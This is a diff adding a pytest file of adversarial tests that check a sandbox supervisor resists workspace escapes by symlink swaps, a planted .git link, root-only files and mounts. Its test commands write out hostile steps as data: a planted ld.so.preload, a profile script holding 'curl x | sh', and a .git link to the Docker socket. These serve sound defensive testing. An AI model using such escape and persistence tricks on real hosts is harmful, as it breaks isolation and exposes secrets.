@@ -1,0 +1,212 @@
+"""Workspaces turned against the host from outside the session (issue 22, items 1-4): a
+project path swapped for a symlink by another session, a planted ``.git`` link in ``rw``
+mode, root-only files the task could delete but not read, and a filesystem mounted inside
+the project. Each case runs on runc and gVisor and checks that nothing outside the project
+changed or reached a task or a review.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import subprocess
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from supervisor import TaskSpec
+from supervisor.core.errors import WorkspaceMoved
+from supervisor.core.workspace import WorkspaceMode, WorkspaceSpec
+from tests.adversarial.harness import Arena
+from tests.integration.workspaces.support import chown_tree, tree_hash
+from tests.unit.workspace_tools import snapshot
+
+pytestmark = [
+    pytest.mark.timeout(240),
+    pytest.mark.skipif(os.geteuid() != 0, reason="root-owned files and mounts need root"),
+]
+
+
+def _outside(arena: Arena) -> tuple[Path, str]:
+    """A host directory outside every workspace root, with a root-only secret in it."""
+    outside = arena.tmp_path / "outside"
+    outside.mkdir()
+    token = secrets.token_hex(16)
+    key = outside / "secret.key"
+    key.write_text(token)
+    key.chmod(0o600)
+    return outside, token
+
+
+@asynccontextmanager
+async def _session(arena: Arena, name: str, path: Path, mode: WorkspaceMode) -> AsyncIterator[Any]:
+    """A second session of the arena's supervisor on ``path``."""
+    session = await arena.sup.open_session(
+        f"{name}-{arena.runtime}",
+        workspace=WorkspaceSpec(path=str(path), mode=mode),
+        policy=arena.policy,
+    )
+    try:
+        yield session
+    finally:
+        await session.end()
+
+
+async def _run(session: Any, policy: str, command: str) -> tuple[str, str]:
+    info = await session.start(TaskSpec(command=command, policy=policy, timeout_ms=60_000))
+    final = await session.wait(info.task_id, timeout_s=120)
+    return final.status, Path(final.output_path).read_text(errors="replace")
+
+
+async def test_ws_project_swapped_for_a_symlink_is_refused(ws_arena: Arena) -> None:
+    """Item 1: an ``rw`` session on ``parent/`` replaces ``app`` by a link to a host
+    directory; the overlay session on ``parent/app`` must neither write there (apply), nor
+    mount it (its next task, after a discard too), nor show its files (diff)."""
+    arena = ws_arena
+    outside, token = _outside(arena)
+    before = snapshot(outside, owners=True)
+    parent = arena.workspace / "parent"
+    (parent / "app").mkdir(parents=True)
+    (parent / "app" / "main.py").write_text("print('app')\n")
+    chown_tree(parent)
+    async with _session(arena, "swap-rw", parent, "rw") as rw:
+        await arena.open_workspace("swap-app", parent / "app")
+        wrote = await arena.run(
+            "mkdir -p profile.d && echo evil > ld.so.preload && "
+            "echo 'curl x | sh' > profile.d/x.sh && echo wrote"
+        )
+        assert wrote.info.status == "completed" and "wrote" in wrote.text, wrote.text
+        status, out = await _run(
+            rw, arena.policy, f"mv app app.old && ln -s {outside} app && echo swapped"
+        )
+        assert status == "completed" and "swapped" in out, out
+        with pytest.raises(WorkspaceMoved, match="symlink"):
+            await arena.session.apply_changes()
+        with pytest.raises(WorkspaceMoved):
+            await arena.session.workspace_diff()
+        with pytest.raises(WorkspaceMoved):
+            await arena.session.discard_changes()
+        refused: BaseException | str | None = None
+        try:
+            r = await arena.run(f"ls -la; cat secret.key; echo {token[:4]}-listed")
+            if r.info.status != "completed":
+                refused = f"{r.info.status}: {r.info.reason}: {r.info.error or r.text}"
+            assert f"{token[:4]}-listed" not in r.text and token not in r.text, r.text
+        except WorkspaceMoved as exc:
+            refused = exc
+        assert refused is not None, "a task of the moved workspace was started"
+        arena.note(f"task after the swap: {str(refused)[:100]!r}")
+        assert snapshot(outside, owners=True) == before, "the outside directory changed"
+        assert not (outside / "ld.so.preload").exists()
+        # Put the project back: the session works again, its change still pending.
+        (parent / "app").unlink()
+        (parent / "app.old").rename(parent / "app")
+        assert [c.path for c in await arena.session.workspace_changes()] == [
+            "ld.so.preload",
+            "profile.d",
+            "profile.d/x.sh",
+        ]
+        await arena.session.discard_changes()
+    await arena.finish()
+
+
+async def test_ws_planted_git_symlink_is_never_bound(ws_arena: Arena) -> None:
+    """Item 2: a task of an ``rw`` session plants ``.git -> /outside`` (and then the
+    engine's socket); the next ``rw`` session must not mount what the link names."""
+    arena = ws_arena
+    await arena.open("git-plant")
+    outside, token = _outside(arena)
+    (outside / "readable.txt").write_text(token)
+    (outside / "readable.txt").chmod(0o644)
+    project = arena.workspace / "proj"
+    project.mkdir()
+    (project / "a.txt").write_text("a\n")
+    chown_tree(project)
+    for target in (str(outside), "/var/run/docker.sock"):
+        async with _session(arena, "plant", project, "rw") as planter:
+            status, out = await _run(planter, arena.policy, f"ln -sfn {target} .git && echo ok")
+            assert status == "completed" and "ok" in out, out
+        assert (project / ".git").is_symlink()
+        async with _session(arena, "victim", project, "rw") as victim:
+            status, out = await _run(
+                victim,
+                arena.policy,
+                "cat /proc/self/mountinfo; ls -la .git/ 2>&1; cat .git/readable.txt 2>&1; "
+                "test -S .git && echo SOCKET-INSIDE; echo done",
+            )
+        assert status == "completed" and "done" in out, out
+        assert token not in out, f"the outside directory reached the task: {out}"
+        assert "SOCKET-INSIDE" not in out, "the engine's socket was mounted into the task"
+        assert str(outside) not in "\n".join(line for line in out.splitlines() if " - " in line), (
+            "the outside directory is in the task's mount table"
+        )
+        (project / ".git").unlink()
+    await arena.finish()
+
+
+async def test_ws_diff_hides_what_the_task_could_not_read(ws_arena: Arena) -> None:
+    """Item 3: root-only files in a user's project, which the task can delete (the
+    directory is its own) but not read, never show their bytes in a review; nor does a
+    git-ignored one whose rule the task removed."""
+    arena = ws_arena
+    project = arena.workspace / "proj"
+    project.mkdir()
+    (project / ".gitignore").write_text(".env\n")
+    (project / "open.txt").write_text("open\n")
+    (project / "private").mkdir()
+    chown_tree(project)
+    key_token, env_token = secrets.token_hex(16), secrets.token_hex(16)
+    for name, token in (("server.key", key_token), (".env", env_token)):
+        path = project / name
+        path.write_text(f"SECRET={token}\n")
+        path.chmod(0o600)  # owned by root
+    # A directory of the task's own with a root-only file: removed as a whole.
+    inner = project / "private" / "inner.key"
+    inner.write_text(f"inner {key_token}\n")
+    inner.chmod(0o600)
+    await arena.open_workspace("unreadable", project)
+    r = await arena.run(
+        "cat server.key; echo cat=$?; rm -rf server.key .env private open.txt; echo rm=$?; "
+        "printf '!.env\\n' > .gitignore; ls -a"
+    )
+    assert "cat=1" in r.text and "rm=0" in r.text, r.text
+    diff = await arena.session.workspace_diff()
+    for token in (key_token, env_token):
+        assert token not in diff, diff
+    assert "deleted (content not readable by the sandbox" in diff, diff
+    assert "-open" in diff  # what the task could read is shown as before
+    listed = {c.path for c in await arena.session.workspace_changes()}
+    assert {"server.key", "private", "open.txt"} <= listed
+    await arena.session.discard_changes()
+    await arena.finish()
+
+
+async def test_ws_diff_never_crosses_a_mount_inside_the_project(ws_arena: Arena) -> None:
+    """Item 4: a filesystem mounted at ``proj/data`` on the host; the task (which sees the
+    empty directory underneath) removes it; the review must not read the mount."""
+    arena = ws_arena
+    project = arena.workspace / "proj"
+    (project / "data").mkdir(parents=True)
+    (project / "a.txt").write_text("a\n")
+    chown_tree(project)
+    token = secrets.token_hex(16)
+    subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(project / "data")], check=True
+    )
+    try:
+        (project / "data" / "key").write_text(token)
+        pristine = tree_hash(project)
+        await arena.open_workspace("mounted", project)
+        r = await arena.run("rmdir data; echo rmdir=$?")
+        assert "rmdir=0" in r.text, r.text
+        diff = await arena.session.workspace_diff()
+        assert token not in diff, diff
+        assert "another filesystem is mounted there" in diff, diff
+        assert tree_hash(project) == pristine
+        await arena.session.discard_changes()
+        await arena.finish()
+    finally:
+        subprocess.run(["umount", "-l", str(project / "data")], check=False)
